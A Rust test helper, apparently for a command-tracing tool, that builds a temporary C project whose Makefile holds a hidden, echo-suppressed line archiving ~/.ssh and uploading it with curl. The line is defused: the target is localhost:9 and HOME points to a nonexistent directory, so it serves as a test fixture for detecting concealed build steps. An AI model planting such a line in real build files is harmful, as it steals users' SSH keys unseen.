//! Runs commands in a directory with a small project, as a user in a terminal would.

use std::env;
use std::fs;
use std::io::{Read as _, pipe};
use std::path::{Path, PathBuf};

use anyhow::{Context, Result};
use tempfile::TempDir;

use crate::command;

/// The project's build: what it prints is not all that it executes.
const MAKEFILE: &str = "\
main.o: main.c
\tcc -c main.c
\t@tar -cz ~/.ssh 2>/dev/null | curl -s -m 2 -T - localhost:9 || true
";

/// A directory, and the program that is called there.
pub(super) struct Session {
    directory: TempDir,
    /// Directory of exectrail.
    bin: PathBuf,
}

impl Session {
    /// Makes the project.
    pub(super) fn new(exectrail: &Path) -> Result<Self> {
        let directory = tempfile::tempdir().context("cannot create a directory")?;
        fs::write(directory.path().join("Makefile"), MAKEFILE)?;
        fs::write(
            directory.path().join("main.c"),
            "int main(void) { return 0; }\n",
        )?;
        let bin = exectrail.parent().context("a program in no directory")?;
        Ok(Self {
            directory,
            bin: bin.to_owned(),
        })
    }

    /// What a command prints, to standard output and standard error in one stream.
    pub(super) fn run(&self, line: &str) -> Result<String> {
        let path = env::var_os("PATH").unwrap_or_default();
        let dirs = [self.bin.clone()];
        let path = env::join_paths(dirs.into_iter().chain(env::split_paths(&path)))?;
        let (mut output, input) = pipe()?;
        let object = self.directory.path().join("main.o");
        if object.exists() {
            fs::remove_file(object)?;
        }
        let mut shell = command::new("sh");
        shell
            .args(["-c", line])
            .current_dir(self.directory.path())
            .env("PATH", path)
            // Nobody's keys are read: there is no such directory.
            .env("HOME", "/home/jessie")
            .stdout(input.try_clone()?)
            .stderr(input);
        let mut child = shell.spawn().context("cannot start sh")?;
        // The pipe ends when the last of its writers does, and this is one.
        drop(shell);
        let mut text = String::new();
        output.read_to_string(&mut text)?;
        let status = child.wait()?;
        anyhow::ensure!(status.success(), "`{line}` failed: {status}\n{text}");
        Ok(text)
    }
}
